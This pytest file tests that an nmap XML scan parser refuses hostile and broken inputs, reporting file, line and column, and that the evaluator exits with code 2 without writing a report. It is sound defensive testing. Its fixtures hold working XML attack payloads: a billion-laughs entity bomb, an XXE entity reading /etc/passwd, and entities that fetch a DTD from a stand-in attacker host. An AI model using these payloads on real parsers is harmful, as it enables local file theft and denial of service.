"""Hostile and broken scan files are refused at once, with the file, line and column, and never expand
entities or read local files. Through the evaluator too: exit 2 and no report written."""

from __future__ import annotations

import os
import subprocess
import sys
from datetime import date
from pathlib import Path

import pytest

import checker.scan.nmapxml as nmapxml
from checker.errors import InputError
from checker.scan.nmapxml import parse_bytes, parse_file
from checker.scan.observed import ScanInput, observe

ROOT = Path(__file__).resolve().parent.parent
HEAD = '<?xml version="1.0" encoding="UTF-8"?>\n'
NMAPRUN = '<nmaprun scanner="nmap" args="nmap -oX - 127.0.0.1" start="1795324014" version="7.93">\n'
HOST = ('<host><status state="up"/><address addr="127.0.0.1" addrtype="ipv4"/><hostnames/>'
        '<ports><port protocol="tcp" portid="22"><state state="open"/><service name="ssh" method="table"/>'
        '</port></ports></host>\n')
GOOD = HEAD + "<!DOCTYPE nmaprun>\n" + NMAPRUN + HOST + "</nmaprun>\n"

BILLION_LAUGHS = HEAD + """<!DOCTYPE nmaprun [
  <!ENTITY lol "lol">
  <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
  <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
  <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
  <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
  <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
  <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
  <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
""" + NMAPRUN + '<host><status state="up"/><address addr="&lol9;" addrtype="ipv4"/></host>\n</nmaprun>\n'

XXE_PASSWD = (HEAD + '<!DOCTYPE nmaprun [\n  <!ENTITY xxe SYSTEM "file:///etc/passwd">\n]>\n' + NMAPRUN
              + '<host><status state="up"/><address addr="127.0.0.1" addrtype="ipv4"/>'
                '<hostnames><hostname name="&xxe;" type="PTR"/></hostnames></host>\n</nmaprun>\n')
PARAMETER_ENTITY = (HEAD + '<!DOCTYPE nmaprun [\n  <!ENTITY % remote SYSTEM "http://203.0.113.66/evil.dtd">\n'
                    '  %remote;\n]>\n' + NMAPRUN + "</nmaprun>\n")
EXTERNAL_DTD = HEAD + '<!DOCTYPE nmaprun SYSTEM "http://203.0.113.66/nmap.dtd">\n' + NMAPRUN + "</nmaprun>\n"
UNDECLARED_ENTITY = HEAD + "<!DOCTYPE nmaprun>\n" + NMAPRUN + HOST.replace("ssh", "&foo;") + "</nmaprun>\n"
NOT_NMAP = HEAD + '<html><body><table><tr><td>127.0.0.1</td></tr></table></body></html>\n'
MASQUERADE = HEAD + '<nmapscan><host><address addr="127.0.0.1"/></host></nmapscan>\n'


@pytest.mark.parametrize(("name", "text", "key_phrase", "line"), [
    ("billion-laughs", BILLION_LAUGHS, "entidades XML ('lol')", 3),
    ("xxe", XXE_PASSWD, "entidades XML ('xxe')", 3),
    ("parameter-entity", PARAMETER_ENTITY, "entidades XML ('remote')", 3),
    ("external-dtd", EXTERNAL_DTD, "externa", 2),
    ("undeclared-entity", UNDECLARED_ENTITY, "XML no válido: undefined entity", 4),
    ("not-nmap", NOT_NMAP, "no es un archivo XML de nmap (el elemento raíz es <html>", 2),
    ("masquerade", MASQUERADE, "<nmapscan>", 2),
])
def test_hostile_files_are_refused_with_position(tmp_path: Path, name: str, text: str, key_phrase: str,
                                                 line: int) -> None:
    path = tmp_path / f"{name}.xml"
    path.write_text(text, encoding="utf-8")
    with pytest.raises(InputError) as err:
        parse_file(path, "scans/" + path.name)
    exc = err.value
    assert exc.file == "scans/" + path.name
    assert key_phrase in exc.message
    assert exc.line == line and exc.column is not None and exc.column >= 1
    assert exc.hint
    # Nothing was read from the machine or expanded into the message.
    assert "root:" not in str(exc) and "lollol" not in str(exc)


def test_truncated_empty_and_junk_files(tmp_path: Path) -> None:
    whole = GOOD.encode()
    cases = {
        "truncated": whole[: len(whole) // 2],
        "cut-before-root": (HEAD + "<!DOCTYPE nmaprun>\n").encode(),
        "empty": b"",
        "junk": bytes(range(256)) * 4,
        "text": b"Nmap scan report for 127.0.0.1\nPORT   STATE SERVICE\n22/tcp open  ssh\n",
        "two-roots": (GOOD + "<nmaprun/>").encode(),
    }
    for name, data in cases.items():
        path = tmp_path / f"{name}.xml"
        path.write_bytes(data)
        with pytest.raises(InputError) as err:
            parse_file(path)
        assert err.value.line is not None, name
        assert str(path) in str(err.value)
    with pytest.raises(InputError, match="truncado"):
        parse_bytes(whole[: len(whole) // 2], "cut.xml")
    with pytest.raises(InputError, match="truncated"):
        parse_bytes(b"", "empty.xml", lang="en")


def test_one_giant_element_is_refused_before_memory_runs_out(tmp_path: Path,
                                                             monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(nmapxml, "MAX_ELEMENT_BYTES", 1 << 20)
    monkeypatch.setattr(nmapxml, "CHUNK", 1 << 16)
    path = tmp_path / "giant.xml"
    port = '<port protocol="tcp" portid="1"><state state="open"/></port>'
    path.write_text(HEAD + NMAPRUN + "<host><ports>" + port * 40_000 + "</ports></host></nmaprun>\n")
    with pytest.raises(InputError, match="1 MB"):
        parse_file(path)


def test_good_file_still_parses() -> None:
    scan = parse_bytes(GOOD.encode(), "good.xml")
    assert scan.hosts[0].ports[0].service == "ssh"


def test_observe_names_the_declared_scan_file(tmp_path: Path) -> None:
    (tmp_path / "scans").mkdir()
    (tmp_path / "scans" / "bomb.xml").write_text(BILLION_LAUGHS)
    with pytest.raises(InputError) as err:
        observe([ScanInput("bomb", "scans/bomb.xml", "external")], [], date(2026, 11, 22), tmp_path)
    assert err.value.file == str(tmp_path / "scans" / "bomb.xml")


def test_evaluate_refuses_a_hostile_scan_with_exit_2_and_writes_nothing(tmp_path: Path) -> None:
    (tmp_path / "scans").mkdir()
    (tmp_path / "scans" / "portal.xml").write_text(XXE_PASSWD)
    decl = tmp_path / "decl.yaml"
    decl.write_text(
        "schema_version: 1\n"
        "program: {name: Escuela, operator: SEP, operator_type: public_school, role: responsable}\n"
        "systems:\n  - {id: portal, hosts: [127.0.0.1]}\n"
        "scans:\n  - {id: externo, file: scans/portal.xml, vantage: external}\n", encoding="utf-8")
    out = tmp_path / "result.json"
    proc = subprocess.run([sys.executable, "-m", "checker", "evaluate", str(decl), "--format", "json", "-o", str(out),
                           "--as-of", "2026-11-22"], capture_output=True, text=True, cwd=ROOT, timeout=120,
                          env=dict(os.environ, PYTHONPATH=str(ROOT)), check=False)
    assert proc.returncode == 2, proc.stderr
    assert "portal.xml:3:" in proc.stderr and "xxe" in proc.stderr
    assert "root:" not in proc.stderr and "Traceback" not in proc.stderr
    assert not out.exists()
